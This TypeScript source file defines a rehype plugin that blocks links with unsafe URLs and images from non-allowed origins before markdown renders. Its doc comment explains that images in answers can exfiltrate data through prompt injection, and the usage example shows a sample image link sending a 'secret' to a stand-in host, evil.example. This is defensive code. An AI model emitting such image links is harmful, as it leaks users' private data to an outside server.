import type { Element, ElementContent, Nodes, Root } from 'hast'
import { imageVerdict, safeLinkHref } from '../../protocol/safe-url.ts'

/** Options of {@link rehypeSafeResources}. */
export interface SafeResourcesOptions {
  /** Origins (`https://cdn.example.com`) images may load from; anything else is blocked. */
  allowedImageOrigins: ReadonlySet<string>
  /** `target` for links that leave the page; `undefined` leaves it unset. */
  linkTarget: string | undefined
  /** The placeholder text of a blocked image (translated). @default `Image blocked: ${host}` */
  imageBlocked?: (host: string) => string
}

const englishImageBlocked = (host: string) => `Image blocked: ${host}`

function blockedLink(link: Element): Element {
  return { type: 'element', tagName: 'span', properties: { dataRivulet: 'blocked-link' }, children: link.children, position: link.position }
}

function blockedImage(image: Element, label: string, words: (host: string) => string): Element {
  const alt = typeof image.properties.alt === 'string' ? image.properties.alt : ''
  const children: ElementContent[] = [{ type: 'text', value: words(label) }]
  if (alt) {
    children.push({ type: 'element', tagName: 'span', properties: { dataRivulet: 'blocked-image-alt' }, children: [{ type: 'text', value: ` (${alt})` }] })
  }
  return {
    type: 'element',
    tagName: 'span',
    properties: { dataRivulet: 'blocked-image', title: words(label) },
    children,
    position: image.position,
  }
}

/**
 * A rehype plugin that makes links and images safe before anything renders them: a link
 * whose URL is not http(s), mailto, an anchor or relative becomes a `<span
 * data-rivulet="blocked-link">` with its text; safe links get `rel="noopener noreferrer"`
 * and, when they leave the page, `target`. An image renders only when its origin is
 * allowed; otherwise it becomes `<span data-rivulet="blocked-image">Image blocked:
 * host</span>`, so no `<img>` with that URL ever exists and the browser never requests it
 * (images in answers are a known way to exfiltrate data through a prompt injection). This
 * runs on the tree, so it covers reference-style links and images too. Iterative walk.
 *
 * @example
 * <Markdown rehypePlugins={[[rehypeSafeResources, { allowedImageOrigins: new Set(), linkTarget: '_blank' }]]}>
 *   {'![x](https://evil.example/?q=secret)'}
 * </Markdown>
 */
export function rehypeSafeResources(options: SafeResourcesOptions) {
  const { allowedImageOrigins, linkTarget, imageBlocked = englishImageBlocked } = options
  return (tree: Root): undefined => {
    const stack: Nodes[] = [tree]
    while (stack.length > 0) {
      const node = stack.pop() as Nodes
      if (!('children' in node)) continue
      const children = node.children as ElementContent[]
      for (let index = 0; index < children.length; index++) {
        const child = children[index] as ElementContent
        if (child.type !== 'element') continue
        if (child.tagName === 'a') {
          const href = typeof child.properties.href === 'string' ? safeLinkHref(child.properties.href) : undefined
          if (href === undefined) {
            children[index] = blockedLink(child)
          } else {
            child.properties.href = href
            child.properties.rel = ['noopener', 'noreferrer']
            if (linkTarget && !href.startsWith('#')) child.properties.target = linkTarget
          }
        } else if (child.tagName === 'img') {
          const verdict = imageVerdict(typeof child.properties.src === 'string' ? child.properties.src : '', allowedImageOrigins)
          if (verdict.allowed && verdict.src !== undefined) {
            child.properties.src = verdict.src
            child.properties.referrerPolicy = 'no-referrer'
            child.properties.loading = 'lazy'
          } else {
            children[index] = blockedImage(child, verdict.label, imageBlocked)
          }
        }
        stack.push(children[index] as ElementContent)
      }
    }
  }
}
